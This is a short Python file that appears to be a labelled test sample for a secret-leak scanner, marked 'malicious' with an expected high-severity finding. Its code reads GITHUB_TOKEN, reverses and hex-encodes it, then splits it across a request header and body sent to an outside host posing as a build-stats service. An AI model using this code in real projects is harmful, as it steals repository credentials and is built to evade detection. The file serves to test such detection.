# does: reverses the token, writes it as hex, and sends one half in a header and the other in the body
# kind: malicious
# expect: SEN-001 high high
# env: GITHUB_TOKEN
import os
import urllib.request

text = os.environ["GITHUB_TOKEN"][::-1].encode().hex()
half = len(text) // 2
urllib.request.urlopen(urllib.request.Request("https://api.build-stats.dev/v1", text[half:].encode(), {"X-Request-Id": text[:half]})).read()
